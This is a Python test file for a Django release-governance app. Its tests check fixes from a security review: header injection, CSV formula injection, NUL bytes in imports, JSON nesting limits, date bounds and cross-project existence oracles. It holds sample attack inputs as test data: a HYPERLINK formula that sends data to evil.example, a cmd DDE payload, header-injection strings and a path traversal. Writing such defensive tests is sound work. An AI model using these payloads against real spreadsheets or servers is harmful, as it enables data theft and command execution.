"""Regression tests for the findings of the security review (issue 12), one or more per finding.

Each failed on the commit before its fix: CR/LF in a version (a 500 on downloads), formulas in the audit CSV,
a NUL in a Jira CSV (a 500 even on a dry run), deeply nested JSON (a 500 with a traceback, anonymous too),
extreme dates (500s).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from defects.models import Defect
from gates.models import AuditEvent
from qualitygov import csv_export, text
from releases.models import Release, Role

from ..factories import UserFactory

pytestmark = pytest.mark.django_db


def _api(world, role=Role.ADMIN) -> APIClient:
    client = APIClient(raise_request_exception=False)
    client.credentials(HTTP_AUTHORIZATION=f"Token {world.tokens[role]}")
    return client


def _page(world, role=Role.ADMIN) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(world.users[role])
    return client


# --- Control characters in short text ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "version", ["3.0\r\nX-Injected: 1", "3.0\n", "3.0\t1", "3\x00", "3\x1b[31m", "3\u2028"]
)
def test_a_version_with_control_characters_is_refused_over_the_api(world_a, version):
    response = _api(world_a, Role.MANAGER).post(
        "/api/v1/releases/", {"project": world_a.key, "version": version, "status": "planning"}, format="json"
    )
    assert response.status_code == 400
    assert "version" in response.json()
    assert "control characters" in str(response.json())
    assert not Release.objects.filter(version__startswith="3").exists()


def test_a_version_with_control_characters_is_refused_by_the_page_form(world_a):
    response = _page(world_a, Role.MANAGER).post(
        f"/projects/{world_a.key}/releases/new/", {"version": "3.0\r\n1", "status": "planning"}
    )
    assert response.status_code == 400
    assert b"control characters" in response.content
    assert not Release.objects.filter(version__startswith="3.0").exists()


@pytest.mark.parametrize("field", ["title", "component", "external_id"])
def test_defect_short_fields_refuse_line_breaks_but_the_description_keeps_them(world_a, field):
    client = _api(world_a, Role.QA)
    body = {"project": world_a.key, "title": "Login fails", "description": "line 1\nline 2\r\n\ttabbed"}
    response = client.post("/api/v1/defects/", {**body, field: "a\nb"}, format="json")
    assert response.status_code == 400 and field in response.json()
    response = client.post("/api/v1/defects/", body, format="json")
    assert response.status_code == 201
    assert Defect.objects.get(pk=response.json()["id"]).description == body["description"]
    response = client.post("/api/v1/defects/", {**body, "description": "bell \x07"}, format="json")
    assert response.status_code == 400 and "description" in response.json()


def test_downloads_named_after_an_old_version_with_a_line_break_still_work(world_a):
    """A row stored before the fix: the traceability CSV and the readiness PDF answered 500 (the header)."""
    release = world_a.releases[-1]
    Release.objects.filter(pk=release.pk).update(version='2.0\r\nSet-Cookie: x=1 "q"/..\\')
    client = _page(world_a, Role.VIEWER)
    for url, ext in (
        (f"/releases/{release.pk}/traceability/?format=csv", "csv"),
        (f"/releases/{release.pk}/readiness.pdf", "pdf"),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        disposition = response["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition.split("=", 1)[1]
        assert disposition.endswith(f'.{ext}"')
        assert f"-{world_a.key}-2.0_Set-Cookie_x_1_q.{ext}" in disposition


def test_safe_filename():
    assert text.safe_filename("readiness", "PAY", "2.4.0", ext="pdf") == "readiness-PAY-2.4.0.pdf"
    assert text.safe_filename("t", "../../etc/passwd", ext="csv") == "t-etc_passwd.csv"
    assert text.safe_filename("t", "Übersicht ✓", ext="csv") == "t-bersicht.csv"
    assert text.safe_filename("\r\n", ext="csv") == "download.csv"
    assert len(text.safe_filename("x" * 500, ext="csv")) == 120


# --- Formula injection in CSV exports ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def test_neutralise():
    for formula in FORMULAS:
        assert csv_export.csv_cell(formula) == "'" + formula
    assert csv_export.csv_cell("plain") == "plain"
    assert csv_export.csv_cell(-3) == -3 and csv_export.csv_cell(None) == ""


def _cells(response) -> list[list[str]]:
    return list(
        csv.reader(
            io.StringIO(
                b"".join(response.streaming_content).decode()
                if response.streaming
                else response.content.decode()
            )
        )
    )


def test_audit_csv_neutralises_every_column(world_a):
    """The review found the release and actor columns exported raw (only the summary was neutralised)."""
    release = world_a.releases[0]
    Release.objects.filter(pk=release.pk).update(version=FORMULAS[0])
    actor = UserFactory(username="@SUM(A1)")
    AuditEvent.objects.create(
        project=world_a.project, release=release, action="=cmd|' /C calc'!A0", summary="-2+3", actor=actor
    )
    response = _page(world_a, Role.VIEWER).get(f"/projects/{world_a.key}/audit/?format=csv")
    assert response.status_code == 200
    rows = _cells(response)
    row = next(r for r in rows if r[3].endswith(FORMULAS[0]))
    assert row[1:] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'" + FORMULAS[0], "'-2+3"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(csv_export.FORMULA_STARTS), cell


# --- Imports -----------------------------------------------------------------------------------------------------

JIRA_HEADER = "Issue id,Summary,Status,Priority,Created,Affects Version/s\r\n"


@pytest.mark.parametrize("dry_run", [True, False])
@pytest.mark.parametrize("bad", ["Login\x00fails", "Login fails,,\x00"])
def test_a_nul_in_a_jira_csv_is_a_400_and_nothing_is_written(world_a, dry_run, bad):
    from django.core.files.uploadedfile import SimpleUploadedFile

    before = (Defect.objects.count(), Release.objects.count())
    content = (
        JIRA_HEADER
        + "1001,Fine,Open,Major,2024-01-02 10:00,9.9\r\n"
        + f"1002,{bad},Open,Major,2024-01-02 10:00,9.8\r\n"
    )
    data = {
        "project": world_a.key,
        "environment": "test",
        "file": SimpleUploadedFile("x.csv", content.encode()),
    }
    if dry_run:
        data["dry_run"] = "on"
    response = _page(world_a, Role.MANAGER).post("/defects/import/", data)
    assert response.status_code == 400
    assert b"NUL character on line 3" in response.content
    assert (Defect.objects.count(), Release.objects.count()) == before


def test_jira_rows_with_broken_short_fields_or_absurd_dates_are_skipped_with_a_reason(world_a):
    from defects.jira_import import import_jira_csv

    content = (
        JIRA_HEADER
        + '1001,"Two\r\nlines",Open,Major,2024-01-02 10:00,"9.9\r\nX"\r\n'
        + "1002,Old,Open,Major,0001-01-01 00:00,\r\n"
        + "1003,Fine,Open,Major,2024-01-02 10:00,9.7\r\n"
        + "1004,Esc\x1b[31m,Open,Major,2024-01-02 10:00,9.7\r\n"
        + "1005,Bell in version,Open,Major,2024-01-02 10:00,9.\x07\r\n"
    )
    report = import_jira_csv(project=world_a.project, text=content, by=world_a.users[Role.MANAGER])
    reasons = {s.external_id: s.reason for s in report.skipped}
    assert "Version" in reasons["1001"] and "control characters" in reasons["1001"]
    assert "out of range" in reasons["1002"]
    assert "Summary" in reasons["1004"] and "Version" in reasons["1005"]
    assert report.created == 1
    assert Defect.objects.get(project=world_a.project, external_id="1003").title == "Fine"


# --- JSON nesting ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [33, 1000, 100_000])
def test_deeply_nested_json_is_a_400_for_anonymous_and_signed_in_callers(world_a, depth):
    body = "[" * depth + "]" * depth
    anonymous = APIClient(raise_request_exception=False)
    response = anonymous.post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 400
    assert "nested deeper than 32" in response.json()["detail"]
    assert "Traceback" not in response.content.decode()
    response = _api(world_a).post(
        "/api/v1/defects/", '{"title": ' + body + "}", content_type="application/json"
    )
    assert response.status_code == 400


def test_nesting_inside_strings_does_not_count(world_a):
    response = _api(world_a, Role.QA).post(
        "/api/v1/defects/", {"project": world_a.key, "title": "[" * 200}, format="json"
    )
    assert response.status_code == 201


# --- Dates -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"as_of": "0001-01-01T00:00:00Z"},
        {"as_of": "9999-12-31T23:59:59Z"},
        {"as_of": "00010101T000000Z"},
    ],
)
def test_extreme_as_of_is_a_400(world_a, query):
    release = world_a.releases[0]
    response = _api(world_a, Role.VIEWER).get(f"/api/v1/releases/{release.pk}/metrics/", query)
    assert response.status_code == 400
    assert "1900-01-01 and 2199-12-31" in str(response.json())


@pytest.mark.parametrize("query", [{"from": "9999-01-01"}, {"to": "0001-01-01"}, {"from": "0000-01-01"}])
def test_extreme_series_bounds_are_a_400(world_a, query):
    release = world_a.releases[0]
    response = _api(world_a, Role.VIEWER).get(
        f"/api/v1/releases/{release.pk}/metrics/test_pass_rate/series/", query
    )
    assert response.status_code == 400


def test_extreme_dates_in_bodies_and_pages_are_a_400(world_a):
    response = _api(world_a, Role.MANAGER).post(
        "/api/v1/incidents/",
        {"project": world_a.key, "title": "Down", "severity": "sev2", "started_at": "0001-01-01T00:00:00Z"},
        format="json",
    )
    assert response.status_code == 400 and "started_at" in response.json()
    response = _page(world_a, Role.VIEWER).get(f"/projects/{world_a.key}/audit/", {"since": "0001-01-01"})
    assert response.status_code == 400


# --- No existence oracles ----------------------------------------------------------------------------------------

MISSING = 9_999_999


def _same_answer(first, second, *ids) -> None:
    """The two answers are the same once the ids in them are blanked out."""
    texts = []
    for response in (first, second):
        text = response.content.decode()
        for value in ids:
            text = text.replace(str(value), "ID")
        texts.append((response.status_code, text))
    assert texts[0] == texts[1]
    assert texts[0][0] in (400, 404)


def test_another_projects_release_in_a_body_is_answered_like_a_missing_one(world_a, world_b):
    """The review: POST /api/v1/gates/{id}/evaluations/ {"release": <B's id>} said "Release B 1.0.0 belongs to
    another project"; the sign-off endpoint did the same for a viewer."""
    other = world_b.releases[0].pk
    gate = world_a.gates[0]
    for role in (Role.QA, Role.VIEWER):
        client = _api(world_a, role)
        url = f"/api/v1/gates/{gate.pk}/evaluations/"
        _same_answer(
            client.post(url, {"release": other}, format="json"),
            client.post(url, {"release": MISSING}, format="json"),
            other,
            MISSING,
        )
        item = world_a.checklist_items[0]
        url = f"/api/v1/checklist-items/{item.pk}/signoffs/"
        answer = client.post(url, {"release": other}, format="json")
        _same_answer(answer, client.post(url, {"release": MISSING}, format="json"), other, MISSING)
        assert world_b.releases[0].version not in answer.content.decode()
    rm = _api(world_a, Role.RELEASE_MANAGER)
    body = {"gate": gate.pk, "decision": "go", "rationale": "ok"}
    _same_answer(
        rm.post("/api/v1/decisions/", {**body, "release": other}, format="json"),
        rm.post("/api/v1/decisions/", {**body, "release": MISSING}, format="json"),
        other,
        MISSING,
    )
    release = world_a.releases[-1].pk
    _same_answer(
        rm.post(
            "/api/v1/decisions/", {**body, "release": release, "gate": world_b.gates[0].pk}, format="json"
        ),
        rm.post("/api/v1/decisions/", {**body, "release": release, "gate": MISSING}, format="json"),
        world_b.gates[0].pk,
        MISSING,
    )


def test_another_projects_links_and_keys_are_answered_like_missing_ones(world_a, world_b):
    client = _api(world_a, Role.QA)
    body = {"project": world_a.key, "title": "x"}
    for field, other in (
        ("requirements", world_b.requirements[0].pk),
        ("test_cases", world_b.test_cases[0].pk),
        ("test_results", world_b.results[0].pk),
    ):
        _same_answer(
            client.post("/api/v1/defects/", {**body, field: [other]}, format="json"),
            client.post("/api/v1/defects/", {**body, field: [MISSING]}, format="json"),
            other,
            MISSING,
        )


def test_unknown_and_non_member_usernames_get_the_same_message(world_a, world_b):
    outsider = world_b.users[Role.QA].username
    nobody = "no_such_user_at_all"
    client = _api(world_a, Role.QA)
    body = {"project": world_a.key, "title": "x"}
    _same_answer(
        client.post("/api/v1/defects/", {**body, "assignee": outsider}, format="json"),
        client.post("/api/v1/defects/", {**body, "assignee": nobody}, format="json"),
        outsider,
        nobody,
    )
    defect = world_a.defects[0]
    _same_answer(
        client.patch(f"/api/v1/defects/{defect.key}/", {"assignee": outsider}, format="json"),
        client.patch(f"/api/v1/defects/{defect.key}/", {"assignee": nobody}, format="json"),
        outsider,
        nobody,
    )
    admin = _api(world_a, Role.ADMIN)
    url = f"/api/v1/projects/{world_a.key}/alert-rules/"
    rule = {"metric": "open_defects", "threshold": 1, "direction": "above"}
    _same_answer(
        admin.post(url, {**rule, "owner": outsider}, format="json"),
        admin.post(url, {**rule, "owner": nobody}, format="json"),
        outsider,
        nobody,
    )


# --- Production defaults -----------------------------------------------------------------------------------------


def test_responses_that_show_a_token_are_not_stored(world_a):
    user = world_a.users[Role.QA]
    user.set_password("pass-word-123")
    user.save()
    page = _page(world_a, Role.QA)
    response = page.get("/accounts/token/")
    assert response.status_code == 200 and world_a.tokens[Role.QA].encode() in response.content
    assert "no-store" in response["Cache-Control"]
    api = APIClient()
    response = api.post(
        "/api/v1/auth/token/", {"username": user.username, "password": "pass-word-123"}, format="json"
    )
    assert response.status_code == 200 and response.json()["token"] == world_a.tokens[Role.QA]
    assert "no-store" in response["Cache-Control"]


@pytest.mark.django_db
def test_api_schema_and_docs_need_a_login_unless_opened(settings, world_a):
    settings.QUALITYGOV_API_DOCS_PUBLIC = False
    anonymous = APIClient()
    assert anonymous.get("/api/schema/").status_code == 401
    docs = Client().get("/api/docs/")
    assert docs.status_code == 302 and docs["Location"].startswith("/accounts/login/")
    assert _api(world_a, Role.VIEWER).get("/api/schema/").status_code == 200
    assert _page(world_a, Role.VIEWER).get("/api/docs/").status_code == 200
    settings.QUALITYGOV_API_DOCS_PUBLIC = True
    assert anonymous.get("/api/schema/").status_code == 200
    assert Client().get("/api/docs/").status_code == 200
